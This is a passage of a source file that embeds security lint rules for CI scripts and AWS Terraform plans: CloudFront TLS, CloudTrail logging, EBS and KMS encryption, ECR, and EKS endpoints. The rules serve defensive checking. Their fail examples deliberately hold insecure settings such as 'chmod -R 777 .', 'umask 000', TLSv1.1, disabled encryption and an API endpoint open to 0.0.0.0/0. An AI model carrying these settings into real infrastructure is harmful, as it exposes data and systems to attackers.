          else "job '${j.name}' makes files writable by everyone: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.writable)))}'" at first(lines)

        example pass """
          build:
            script:
              - chmod 755 ./bin/tool
              - chmod 600 ~/.ssh/id_ed25519
              - chmod -R u+w vendor/
              - chmod +x deploy.sh
              - umask 022
        """
        example fail "octal and symbolic" """
          build:
            script:
              - ↓chmod -R 777 .
          setup:
            script:
              - ↓chmod a+rwx /opt/tools/run.sh
          perms:
            script:
              - ↓umask 000
        """ expect "job 'build' makes files writable by everyone: 'chmod -R 777 .'" expect "job 'setup'" expect "job 'perms'"
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/cloudfront_allows_http.plumb",
      text: #"""
      rule cloudfront_allows_http {
        title "CloudFront distributions do not serve viewers over plain HTTP"
        severity high
        category security
        tags [terraform, aws, cloudfront, tls]
        rationale """
          `viewer_protocol_policy = "allow-all"` serves content and accepts requests over plain HTTP:
          cookies, tokens and form posts travel in clear text, and an attacker on the network can rewrite
          pages and scripts in transit.
        """
        remediation "Set `viewer_protocol_policy = \"redirect-to-https\"` (or `\"https-only\"`) in the default and every ordered cache behavior."

        for d in terraform.resource("aws_cloudfront_distribution")
        when not is_null(d.after)
        let behaviors = flatten([default(d.after.default_cache_behavior, []), default(d.after.ordered_cache_behavior, [])])
        let plain = filter(b in behaviors, b.viewer_protocol_policy == "allow-all")
        require count(plain) == 0
          else "'${d.address}' serves ${default(first(plain).path_pattern, "the default behavior")} over plain HTTP (viewer_protocol_policy 'allow-all')" at first(plain).viewer_protocol_policy

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_cloudfront_distribution.site", "mode": "managed", "type": "aws_cloudfront_distribution", "name": "site",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"default_cache_behavior": [{"viewer_protocol_policy": "redirect-to-https"}],
                         "ordered_cache_behavior": [{"path_pattern": "/api/*", "viewer_protocol_policy": "https-only"}]}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_cloudfront_distribution.site", "mode": "managed", "type": "aws_cloudfront_distribution", "name": "site",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"default_cache_behavior": [{"viewer_protocol_policy": ↓"allow-all"}], "ordered_cache_behavior": []}}}]}
        """ expect "'aws_cloudfront_distribution.site' serves the default behavior over plain HTTP (viewer_protocol_policy 'allow-all')"
        example indeterminate "policy from a value known after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_cloudfront_distribution.site", "mode": "managed", "type": "aws_cloudfront_distribution", "name": "site",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"default_cache_behavior": [{"viewer_protocol_policy": true}]},
               "after": {"default_cache_behavior": [{}], "ordered_cache_behavior": []}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/cloudfront_outdated_tls.plumb",
      text: #"""
      rule cloudfront_outdated_tls {
        title "CloudFront distributions require a modern TLS version"
        severity medium
        category security
        tags [terraform, aws, cloudfront, tls]
        rationale """
          `minimum_protocol_version` below TLSv1.2_2021 lets viewers negotiate TLS 1.0 or 1.1, or TLS 1.2
          with weak CBC and SHA-1 cipher suites; an active attacker can force the weakest option both
          sides accept. PCI DSS and most security baselines forbid them.
        """
        remediation """
          Set `viewer_certificate { minimum_protocol_version = "TLSv1.2_2021" }` (or a later policy).
          Distributions that use the default *.cloudfront.net certificate cannot set it and are not
          judged: give them a custom domain and an ACM certificate to control TLS.
        """
        param allowed_versions: list<string> = ["TLSv1.2_2021", "TLSv1.2_2025", "TLSv1.3_2025"]

        for d in terraform.resource("aws_cloudfront_distribution")
        when not is_null(d.after)
        let cert = first(d.after.viewer_certificate)
        when cert.cloudfront_default_certificate != true
        require cert.minimum_protocol_version in param.allowed_versions
          else "'${d.address}' accepts viewers down to '${cert.minimum_protocol_version}', below ${param.allowed_versions}" at cert.minimum_protocol_version

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_cloudfront_distribution.site", "mode": "managed", "type": "aws_cloudfront_distribution", "name": "site",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"viewer_certificate": [{"acm_certificate_arn": "arn:aws:acm:us-east-1:111122223333:certificate/abc", "cloudfront_default_certificate": false, "minimum_protocol_version": "TLSv1.2_2021", "ssl_support_method": "sni-only"}]}}},
            {"address": "aws_cloudfront_distribution.default", "mode": "managed", "type": "aws_cloudfront_distribution", "name": "default",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"viewer_certificate": [{"cloudfront_default_certificate": true, "minimum_protocol_version": "TLSv1"}]}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_cloudfront_distribution.site", "mode": "managed", "type": "aws_cloudfront_distribution", "name": "site",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"viewer_certificate": [{"acm_certificate_arn": "arn:aws:acm:us-east-1:111122223333:certificate/abc", "cloudfront_default_certificate": false, "minimum_protocol_version": ↓"TLSv1.1_2016", "ssl_support_method": "sni-only"}]}}}]}
        """ expect "'aws_cloudfront_distribution.site' accepts viewers down to 'TLSv1.1_2016'"
        example indeterminate "certificate from a value known after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_cloudfront_distribution.site", "mode": "managed", "type": "aws_cloudfront_distribution", "name": "site",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"viewer_certificate": [{"minimum_protocol_version": true}]},
               "after": {"viewer_certificate": [{"cloudfront_default_certificate": false}]}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/cloudtrail_log_file_validation_disabled.plumb",
      text: #"""
      rule cloudtrail_log_file_validation_disabled {
        title "CloudTrail trails validate their log files"
        severity medium
        category security
        tags [terraform, aws, cloudtrail, logging]
        rationale """
          Log file validation makes CloudTrail write signed digest files, so that a deleted or edited
          log file can be detected. Without it an intruder with access to the log bucket can remove the
          records of what they did, and nobody can prove the logs are complete.
        """
        remediation "Set `enable_log_file_validation = true` and check the digests with `aws cloudtrail validate-logs`."

        for t in terraform.resource("aws_cloudtrail")
        when not is_null(t.after)
        require t.after.enable_log_file_validation == true
          else "'${t.address}' has enable_log_file_validation = ${default(t.after.enable_log_file_validation, false)}" at t.after.enable_log_file_validation
          fix { set t.after.enable_log_file_validation = true }

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_cloudtrail.main", "mode": "managed", "type": "aws_cloudtrail", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"name": "main", "enable_log_file_validation": true, "is_multi_region_trail": true}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_cloudtrail.main", "mode": "managed", "type": "aws_cloudtrail", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"name": "main", "enable_log_file_validation": ↓false, "is_multi_region_trail": true}}}]}
        """ expect "'aws_cloudtrail.main' has enable_log_file_validation = false"
        example indeterminate "set from a value known after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_cloudtrail.main", "mode": "managed", "type": "aws_cloudtrail", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"enable_log_file_validation": true}, "after": {"name": "main"}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/cloudtrail_not_encrypted_with_kms.plumb",
      text: #"""
      rule cloudtrail_not_encrypted_with_kms {
        title "CloudTrail logs are encrypted with a KMS key"
        severity medium
        category security
        tags [terraform, aws, cloudtrail, encryption, kms]
        rationale """
          Without `kms_key_id`, CloudTrail logs are encrypted with S3-managed keys, so anyone who can
          read the log bucket reads the account's full activity history (resource names, IP addresses,
          request parameters). With a KMS key, reading also needs `kms:Decrypt` on a key whose policy you
          control, and every decryption is itself logged.
        """
        remediation "Set `kms_key_id` to the ARN of a customer managed KMS key whose policy lets CloudTrail encrypt with it."

        for t in terraform.resource("aws_cloudtrail")
        when not is_null(t.after)
        # A key ARN known only after apply, taken from a KMS key or alias resource, is set.
        let key_ref = any(x in t.config.kms_key_id.references, starts_with(x, "aws_kms_key.") or starts_with(x, "aws_kms_alias."))
        require key_ref or not is_empty(t.after.kms_key_id)
          else "'${t.address}' does not set kms_key_id" at t.after.kms_key_id

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_cloudtrail.main", "mode": "managed", "type": "aws_cloudtrail", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"name": "main", "kms_key_id": "arn:aws:kms:eu-west-1:111122223333:key/1234abcd"}}}]}
        """
        example pass "key created in the same configuration" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_cloudtrail.main", "mode": "managed", "type": "aws_cloudtrail", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true, "kms_key_id": true}, "after": {"name": "main"}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_cloudtrail.main", "mode": "managed", "type": "aws_cloudtrail", "name": "main", "provider_config_key": "aws",
             "expressions": {"kms_key_id": {"references": ["aws_kms_key.trail.arn", "aws_kms_key.trail"]}}}]}}}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_cloudtrail.main", "mode": "managed", "type": "aws_cloudtrail", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"name": "main", "kms_key_id": ↓null}}}]}
        """ expect "'aws_cloudtrail.main' does not set kms_key_id"
        example indeterminate "key from a variable, known after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_cloudtrail.main", "mode": "managed", "type": "aws_cloudtrail", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"kms_key_id": true}, "after": {"name": "main"}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/cloudtrail_not_multi_region.plumb",
      text: #"""
      rule cloudtrail_not_multi_region {
        title "CloudTrail trails record every region"
        severity medium
        category security
        tags [terraform, aws, cloudtrail, logging]
        rationale """
          A single-region trail records nothing that happens in the other regions. Attackers with
          stolen keys routinely work in regions the victim does not use (crypto-mining instances in
          ap-southeast-2, for example) precisely because nobody logs or watches them.
        """
        remediation "Set `is_multi_region_trail = true` (and `include_global_service_events = true` for IAM and STS events)."

        for t in terraform.resource("aws_cloudtrail")
        when not is_null(t.after)
        require t.after.is_multi_region_trail == true
          else "'${t.address}' records only its own region (is_multi_region_trail = ${default(t.after.is_multi_region_trail, false)})" at t.after.is_multi_region_trail

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_cloudtrail.main", "mode": "managed", "type": "aws_cloudtrail", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"name": "main", "is_multi_region_trail": true}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_cloudtrail.main", "mode": "managed", "type": "aws_cloudtrail", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"name": "main", "is_multi_region_trail": ↓false}}}]}
        """ expect "'aws_cloudtrail.main' records only its own region (is_multi_region_trail = false)"
        example indeterminate "set from a value known after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_cloudtrail.main", "mode": "managed", "type": "aws_cloudtrail", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"is_multi_region_trail": true}, "after": {"name": "main"}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/dynamodb_point_in_time_recovery_disabled.plumb",
      text: #"""
      rule dynamodb_point_in_time_recovery_disabled {
        title "DynamoDB tables have point-in-time recovery"
        severity medium
        category security
        tags [terraform, aws, dynamodb, backup]
        rationale """
          Without point-in-time recovery, a bad deployment, a buggy batch job or an attacker who
          overwrites or deletes items leaves no way back short of the last on-demand backup, if there is
          one. PITR restores the table to any second of the last 35 days.
        """
        remediation "Add `point_in_time_recovery { enabled = true }` to the table."

        for t in terraform.resource("aws_dynamodb_table")
        when not is_null(t.after)
        # The block is computed when the configuration does not write it: PITR is then off.
        let unset = exists(t.provider.key) and not exists(t.config.point_in_time_recovery) and is_unknown(t.after.point_in_time_recovery)
        require not unset
          else "'${t.address}' does not enable point-in-time recovery" at t.address
        require unset or first(t.after.point_in_time_recovery).enabled == true
          else "'${t.address}' has point-in-time recovery disabled" at first(t.after.point_in_time_recovery).enabled
          fix { set t.after.point_in_time_recovery[0].enabled = true }

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_dynamodb_table.orders", "mode": "managed", "type": "aws_dynamodb_table", "name": "orders",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"name": "orders", "point_in_time_recovery": [{"enabled": true}]}}}]}
        """
        example fail """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_dynamodb_table.orders", "mode": "managed", "type": "aws_dynamodb_table", "name": "orders",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"name": "orders", "point_in_time_recovery": [{"enabled": ↓false}]}}},
            {"address": ↓"aws_dynamodb_table.sessions", "mode": "managed", "type": "aws_dynamodb_table", "name": "sessions",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"point_in_time_recovery": true},
               "after": {"name": "sessions"}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_dynamodb_table.sessions", "mode": "managed", "type": "aws_dynamodb_table", "name": "sessions", "provider_config_key": "aws",
             "expressions": {"name": {"constant_value": "sessions"}}}]}}}
        """ expect "'aws_dynamodb_table.orders' has point-in-time recovery disabled"
            expect "'aws_dynamodb_table.sessions' does not enable point-in-time recovery"
        example indeterminate "set from a value known after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_dynamodb_table.orders", "mode": "managed", "type": "aws_dynamodb_table", "name": "orders",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"point_in_time_recovery": [{"enabled": true}]},
               "after": {"name": "orders", "point_in_time_recovery": [{}]}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/ebs_encryption_by_default_disabled.plumb",
      text: #"""
      rule ebs_encryption_by_default_disabled {
        title "EBS encryption by default stays on"
        severity high
        category security
        tags [terraform, aws, ebs, encryption]
        rationale """
          With EBS encryption by default, every new volume and snapshot copy in the region is encrypted,
          whatever the tool or person that creates it remembers to ask. `enabled = false` turns that
          safety net off for the whole account and region.
        """
        remediation "Set `enabled = true` on `aws_ebs_encryption_by_default` (or remove the argument: it defaults to true)."

        for e in terraform.resource("aws_ebs_encryption_by_default")
        when not is_null(e.after)
        require e.after.enabled == true
          else "'${e.address}' turns EBS encryption by default off" at e.after.enabled
          fix { set e.after.enabled = true }

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_ebs_encryption_by_default.this", "mode": "managed", "type": "aws_ebs_encryption_by_default", "name": "this",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true}, "after": {"enabled": true}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_ebs_encryption_by_default.this", "mode": "managed", "type": "aws_ebs_encryption_by_default", "name": "this",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["update"], "before": {"enabled": true}, "after_unknown": {}, "after": {"enabled": ↓false}}}]}
        """ expect "'aws_ebs_encryption_by_default.this' turns EBS encryption by default off"
        example indeterminate "set from a value known after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_ebs_encryption_by_default.this", "mode": "managed", "type": "aws_ebs_encryption_by_default", "name": "this",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"enabled": true}, "after": {}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/ebs_volume_not_encrypted.plumb",
      text: #"""
      rule ebs_volume_not_encrypted {
        title "EBS volumes are encrypted"
        severity high
        category security
        tags [terraform, aws, ebs, encryption]
        rationale """
          An unencrypted EBS volume, and every snapshot taken of it, holds its data in clear text: a
          snapshot shared by mistake, made public or copied to another account is a full copy of the
          disk. Encryption cannot be added to an existing volume; it has to be recreated.
        """
        remediation """
          Set `encrypted = true` (with `kms_key_id` for a customer managed key), or turn on
          `aws_ebs_encryption_by_default` for the account and region, which encrypts every new volume.
        """

        for v in terraform.resource("aws_ebs_volume")
        when not is_null(v.after)
        # Account-level default encryption in the same plan encrypts every new volume.
        let default_on = count(terraform.resource("aws_ebs_encryption_by_default")[after.enabled == true and file(it) == file(v)]) > 0
        # `encrypted` is computed when the configuration does not set it: the volume then follows the
        # account default (unencrypted unless turned on), or its snapshot when restored from one.
        let unset = exists(v.provider.key) and not exists(v.config.encrypted) and is_unknown(v.after.encrypted)
        let from_snapshot = exists(v.config.snapshot_id) or (known(v.after.snapshot_id) and not is_empty(v.after.snapshot_id))
        require default_on or not (unset and not from_snapshot)
          else "'${v.address}' does not set encrypted = true, and the plan does not turn on EBS encryption by default" at v.address
          fix { set v.after.encrypted = true }
        require default_on or (unset and not from_snapshot) or v.after.encrypted == true
          else "'${v.address}' has encrypted = ${v.after.encrypted}" at v.after.encrypted
          fix { set v.after.encrypted = true }

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_ebs_volume.data", "mode": "managed", "type": "aws_ebs_volume", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"kms_key_id": true},
               "after": {"availability_zone": "eu-west-1a", "size": 100, "encrypted": true}}}]}
        """
        example pass "account default encryption in the plan" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_ebs_volume.data", "mode": "managed", "type": "aws_ebs_volume", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"encrypted": true},
               "after": {"availability_zone": "eu-west-1a", "size": 100}}},
            {"address": "aws_ebs_encryption_by_default.this", "mode": "managed", "type": "aws_ebs_encryption_by_default", "name": "this",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true}, "after": {"enabled": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_ebs_volume.data", "mode": "managed", "type": "aws_ebs_volume", "name": "data", "provider_config_key": "aws",
             "expressions": {"size": {"constant_value": 100}}}]}}}
        """
        example fail """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_ebs_volume.data", "mode": "managed", "type": "aws_ebs_volume", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"availability_zone": "eu-west-1a", "size": 100, "encrypted": ↓false}}},
            {"address": ↓"aws_ebs_volume.scratch", "mode": "managed", "type": "aws_ebs_volume", "name": "scratch",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"encrypted": true, "snapshot_id": true},
               "after": {"availability_zone": "eu-west-1a", "size": 100}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_ebs_volume.scratch", "mode": "managed", "type": "aws_ebs_volume", "name": "scratch", "provider_config_key": "aws",
             "expressions": {"size": {"constant_value": 100}}}]}}}
        """ expect "'aws_ebs_volume.data' has encrypted = false"
            expect "'aws_ebs_volume.scratch' does not set encrypted = true, and the plan does not turn on EBS encryption by default"
        example indeterminate "restored from a snapshot" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_ebs_volume.restored", "mode": "managed", "type": "aws_ebs_volume", "name": "restored",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"encrypted": true},
               "after": {"availability_zone": "eu-west-1a", "snapshot_id": "snap-0123456789abcdef0"}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_ebs_volume.restored", "mode": "managed", "type": "aws_ebs_volume", "name": "restored", "provider_config_key": "aws",
             "expressions": {"snapshot_id": {"constant_value": "snap-0123456789abcdef0"}}}]}}}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/ecr_image_tags_mutable.plumb",
      text: #"""
      rule ecr_image_tags_mutable {
        title "ECR repositories make image tags immutable"
        severity medium
        category security
        tags [terraform, aws, ecr, supply-chain]
        rationale """
          With mutable tags, anyone who can push to the repository (a compromised CI job, a leaked key)
          can replace `app:1.4.2` with a different image, and every deployment that pulls by tag runs it
          without any change to the deployment's own configuration. Immutable tags make a tag mean one
          image forever.
        """
        remediation """
          Set `image_tag_mutability = "IMMUTABLE"` (or `"IMMUTABLE_WITH_EXCLUSION"` to keep a moving tag
          such as `latest` for development), push a new tag for every build, and deploy by digest.
        """

        for r in terraform.resource("aws_ecr_repository")
        when not is_null(r.after)
        require starts_with(default(r.after.image_tag_mutability, "MUTABLE"), "IMMUTABLE")
          else "'${r.address}' has image_tag_mutability '${default(r.after.image_tag_mutability, "MUTABLE")}'" at r.after.image_tag_mutability

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_ecr_repository.app", "mode": "managed", "type": "aws_ecr_repository", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"name": "app", "image_tag_mutability": "IMMUTABLE"}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_ecr_repository.app", "mode": "managed", "type": "aws_ecr_repository", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"name": "app", "image_tag_mutability": ↓"MUTABLE"}}}]}
        """ expect "'aws_ecr_repository.app' has image_tag_mutability 'MUTABLE'"
        example indeterminate "set from a value known after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_ecr_repository.app", "mode": "managed", "type": "aws_ecr_repository", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"image_tag_mutability": true}, "after": {"name": "app"}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/ecr_scan_on_push_disabled.plumb",
      text: #"""
      rule ecr_scan_on_push_disabled {
        title "ECR repositories scan images on push"
        severity medium
        category security
        tags [terraform, aws, ecr, supply-chain, vulnerabilities]
        rationale """
          Without scanning, images with known-exploitable packages (an old OpenSSL, a vulnerable log4j)
          are pushed and deployed without anyone being told. Scan on push reports the vulnerabilities of
          every new image, where CI and EventBridge rules can block or alert.
        """
        remediation """
          Add `image_scanning_configuration { scan_on_push = true }` to the repository, or configure
          registry-wide scanning with `aws_ecr_registry_scanning_configuration` (enhanced scanning with
          Amazon Inspector), which this rule accepts for every repository of the same plan.
        """

        for r in terraform.resource("aws_ecr_repository")
        when not is_null(r.after)
        # Registry-level scanning in the same plan covers every repository.
        let registry_scanning = count(terraform.resource("aws_ecr_registry_scanning_configuration")[mode == "managed" and file(it) == file(r)]) > 0
        require registry_scanning or first(r.after.image_scanning_configuration).scan_on_push == true
          else "'${r.address}' does not scan images on push" at first(r.after.image_scanning_configuration).scan_on_push
          fix { set r.after.image_scanning_configuration[0].scan_on_push = true }

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_ecr_repository.app", "mode": "managed", "type": "aws_ecr_repository", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"name": "app", "image_scanning_configuration": [{"scan_on_push": true}]}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_ecr_repository.app", "mode": "managed", "type": "aws_ecr_repository", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"name": "app", "image_scanning_configuration": [{"scan_on_push": ↓false}]}}}]}
        """ expect "'aws_ecr_repository.app' does not scan images on push"
        example indeterminate "set from a value known after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_ecr_repository.app", "mode": "managed", "type": "aws_ecr_repository", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"image_scanning_configuration": [{"scan_on_push": true}]},
               "after": {"name": "app", "image_scanning_configuration": [{}]}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/eks_public_endpoint_open.plumb",
      text: #"""
      rule eks_public_endpoint_open {
        title "EKS API endpoints are not open to the whole internet"
        severity high
        category security
        tags [terraform, aws, eks, kubernetes, network]
        rationale """
          An EKS cluster's Kubernetes API endpoint is public by default and, unless
          `public_access_cidrs` says otherwise, reachable from 0.0.0.0/0. Anyone can then probe it, try
          stolen or leaked kubeconfig tokens, and exploit API server vulnerabilities before they are
          patched.
        """
        remediation """
          Set `vpc_config { endpoint_private_access = true, endpoint_public_access = false }` and reach
          the API through the VPC (VPN, bastion, CI runners in the VPC), or keep the public endpoint and
          restrict `public_access_cidrs` to your egress ranges.
        """

        for c in terraform.resource("aws_eks_cluster")
        when not is_null(c.after)
        let vpc = first(c.after.vpc_config)
        when vpc.endpoint_public_access != false
        # public_access_cidrs is computed when the configuration does not set it: AWS uses 0.0.0.0/0.
        let cidrs_unset = exists(c.provider.key) and not exists(first(c.config.vpc_config).public_access_cidrs) and is_unknown(vpc.public_access_cidrs)
        require not cidrs_unset
          else "'${c.address}' has a public API endpoint and does not set public_access_cidrs (AWS opens it to 0.0.0.0/0)" at vpc.endpoint_public_access
        require cidrs_unset or "0.0.0.0/0" not in vpc.public_access_cidrs
          else "'${c.address}' has a public API endpoint open to 0.0.0.0/0" at vpc.public_access_cidrs

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_eks_cluster.main", "mode": "managed", "type": "aws_eks_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"endpoint": true},
               "after": {"vpc_config": [{"endpoint_private_access": true, "endpoint_public_access": true, "public_access_cidrs": ["203.0.113.0/24"]}]}}},
            {"address": "aws_eks_cluster.private", "mode": "managed", "type": "aws_eks_cluster", "name": "private",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"vpc_config": [{"public_access_cidrs": true}]},
               "after": {"vpc_config": [{"endpoint_private_access": true, "endpoint_public_access": false}]}}}]}
        """
        example fail """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_eks_cluster.main", "mode": "managed", "type": "aws_eks_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"endpoint": true},
               "after": {"vpc_config": [{"endpoint_private_access": false, "endpoint_public_access": true, "public_access_cidrs": ↓["0.0.0.0/0"]}]}}},
            {"address": "aws_eks_cluster.dev", "mode": "managed", "type": "aws_eks_cluster", "name": "dev",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"vpc_config": [{"public_access_cidrs": true}]},
               "after": {"vpc_config": [{"endpoint_private_access": true, "endpoint_public_access": ↓true}]}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_eks_cluster.dev", "mode": "managed", "type": "aws_eks_cluster", "name": "dev", "provider_config_key": "aws",
             "expressions": {"vpc_config": [{"endpoint_private_access": {"constant_value": true}}]}}]}}}
        """ expect "'aws_eks_cluster.main' has a public API endpoint open to 0.0.0.0/0"
            expect "'aws_eks_cluster.dev' has a public API endpoint and does not set public_access_cidrs"
        example indeterminate "CIDRs from a value known after apply" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_eks_cluster.main", "mode": "managed", "type": "aws_eks_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"vpc_config": [{"public_access_cidrs": true}]},
               "after": {"vpc_config": [{"endpoint_public_access": true}]}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_eks_cluster.main", "mode": "managed", "type": "aws_eks_cluster", "name": "main", "provider_config_key": "aws",
             "expressions": {"vpc_config": [{"public_access_cidrs": {"references": ["var.admin_cidrs"]}}]}}]}}}
        """
      }

      """#),
    PolicySource(
